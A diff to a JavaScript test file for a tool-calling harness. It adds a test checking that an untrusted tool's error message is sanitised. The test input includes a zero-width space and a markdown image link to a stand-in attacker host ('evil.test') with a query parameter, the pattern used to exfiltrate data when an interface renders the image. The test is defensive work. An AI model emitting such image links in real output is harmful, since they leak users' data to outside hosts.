@@ -344,6 +344,15 @@ test("a failure code that the contract declares has the class it declares", asyn
   ]);
 });
 
+test("what an untrusted tool says of its failure is made as harmless as its output", async () => {
+  const message = "gone\u200b ![x](https://evil.test/?q=all)";
+  const execute = () =>
+    fail({ taxonomyClass: "UNKNOWN_ERROR", errors: [{ field: null, code: "gone", message }] });
+  const { tool } = noteTool({ execute, security: { untrustedOutput: true } });
+  const { observation } = await benchFor([tool]).call("test__note", { text: "hi" });
+  expect(observation.result_payload.errors[0]?.message).toBe("gone [image removed]");
+});
+
 test("a deprecated version works, and says what to use instead", async () => {
   const lifecycle = { status: "deprecated", sunsetDate: "2027-01-01", replacement: "test__jot" };
   const { tool } = noteTool({ lifecycle });
